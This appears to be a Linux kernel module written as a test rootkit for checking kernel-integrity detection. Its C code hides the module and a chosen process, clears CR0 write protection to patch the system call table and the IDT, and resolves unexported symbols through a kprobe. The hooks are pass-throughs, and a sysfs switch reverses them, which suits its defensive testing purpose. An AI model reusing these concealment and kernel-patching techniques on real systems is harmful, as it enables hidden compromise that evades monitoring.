// SPDX-License-Identifier: GPL-2.0
/*
 * dmkit: Domain M's test rootkit. It uses the classic kernel-rootkit techniques that
 * Domain M's kernel-integrity checks must report, and nothing else:
 *
 *   - it unlinks itself from the module list (lsmod and /proc/modules no longer show it);
 *   - it unlinks the task hide_pid from the task list (the task stays in the pid hash and
 *     keeps running);
 *   - it replaces sys_call_table[__NR_kill] with a function of its own (a pass-through);
 *   - with hook_idt=1, it points IDT vector 15 (reserved, never raised) at its own code.
 *
 * Writing 0 to /sys/module/dmkit/parameters/active (still there: only the module list
 * forgets it) undoes all of it, so that a test can see the findings go.
 *
 * Linux 6.1 exports neither kallsyms_lookup_name nor sys_call_table: a kprobe on
 * kallsyms_lookup_name gives that function's address, which then finds the rest. The
 * table and the IDT are read-only (CONFIG_STRICT_KERNEL_RWX); the writes clear CR0.WP
 * with a plain mov, since write_cr0() pins WP back on since 5.3. Debian's 6.1 dispatches
 * system calls through a switch (x64_sys_call, the BHI mitigation) and keeps
 * sys_call_table for tracing only, so the hook changes no behaviour: only what an
 * integrity check sees, which is what the test needs. Debian's 6.1 loads it unsigned
 * (CONFIG_MODULE_SIG_FORCE is off; lockdown only under EFI Secure Boot, and the test
 * guest boots BIOS), tainting the kernel. It has no exit function, so it is never
 * unloaded; the test guest is thrown away.
 */
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/syscalls.h>
#include <asm/desc.h>

MODULE_LICENSE("GPL"); /* register_kprobe is a GPL-only export */
MODULE_DESCRIPTION("Domain M test rootkit (hides itself and a task, hooks a system call)");

static int hide_pid;
module_param(hide_pid, int, 0);
static int hook_idt;
module_param(hook_idt, int, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn orig_kill;
static syscall_fn *table;
static gate_desc *idt, orig_gate;
static struct task_struct *hidden;
static bool active;

static long dmkit_kill(const struct pt_regs *regs)
{
	return orig_kill(regs);
}

/* Never called: vector 15 is reserved and never raised. */
static void dmkit_idt_handler(void)
{
}

static unsigned long lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kallsyms_lookup_name)(const char *);

	if (register_kprobe(&kp) < 0)
		return 0;
	kallsyms_lookup_name = (void *)kp.addr;
	unregister_kprobe(&kp);
	return kallsyms_lookup_name(name);
}

static void write_protected(void *dst, const void *src, size_t n)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, n);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* Undo everything: the hook, the IDT gate, the task's and the module's unlinking. */
static int dmkit_set_active(const char *val, const struct kernel_param *kp)
{
	rwlock_t *tasklist = (rwlock_t *)lookup("tasklist_lock");
	struct list_head *modules = (struct list_head *)lookup("modules");
	struct mutex *module_mutex = (struct mutex *)lookup("module_mutex");

	if (!sysfs_streq(val, "0"))
		return -EINVAL;
	if (!active)
		return 0;
	if (!tasklist || !modules || !module_mutex)
		return -ENOENT;
	write_protected(&table[__NR_kill], &orig_kill, sizeof(orig_kill));
	if (idt)
		write_protected(&idt[15], &orig_gate, sizeof(orig_gate));
	if (hidden) {
		write_lock_irq(tasklist);
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
		write_unlock_irq(tasklist);
		put_task_struct(hidden);
		hidden = NULL;
	}
	mutex_lock(module_mutex);
	list_add_rcu(&THIS_MODULE->list, modules);
	mutex_unlock(module_mutex);
	active = false;
	pr_info("dmkit: undone\n");
	return 0;
}

static const struct kernel_param_ops active_ops = {
	.set = dmkit_set_active,
	.get = param_get_bool,
};
module_param_cb(active, &active_ops, &active, 0600);

static int __init dmkit_init(void)
{
	syscall_fn hook = dmkit_kill;
	struct task_struct *task;

	table = (syscall_fn *)lookup("sys_call_table");

	if (!table) {
		pr_err("dmkit: sys_call_table not found\n");
		return -ENOENT;
	}
	orig_kill = table[__NR_kill];
	write_protected(&table[__NR_kill], &hook, sizeof(hook));

	if (hook_idt) {
		gate_desc g;
		unsigned long a = (unsigned long)dmkit_idt_handler;

		idt = (gate_desc *)lookup("idt_table");
		if (idt) {
			orig_gate = idt[15];
			g = idt[15];
			g.offset_low = a & 0xffff;
			g.offset_middle = (a >> 16) & 0xffff;
			g.offset_high = a >> 32;
			write_protected(&idt[15], &g, sizeof(g));
		}
	}

	if (hide_pid) {
		rcu_read_lock();
		task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
		if (task) {
			get_task_struct(task);
			list_del_init(&task->tasks); /* _init: the task's own exit unlinks it again safely */
			hidden = task;
		}
		rcu_read_unlock();
		if (!task)
			pr_warn("dmkit: no task %d\n", hide_pid);
	}

	list_del_init(&THIS_MODULE->list);
	active = true;
	pr_info("dmkit: loaded, kill hooked at %px, pid %d hidden\n", hook, hide_pid);
	return 0;
}
module_init(dmkit_init);
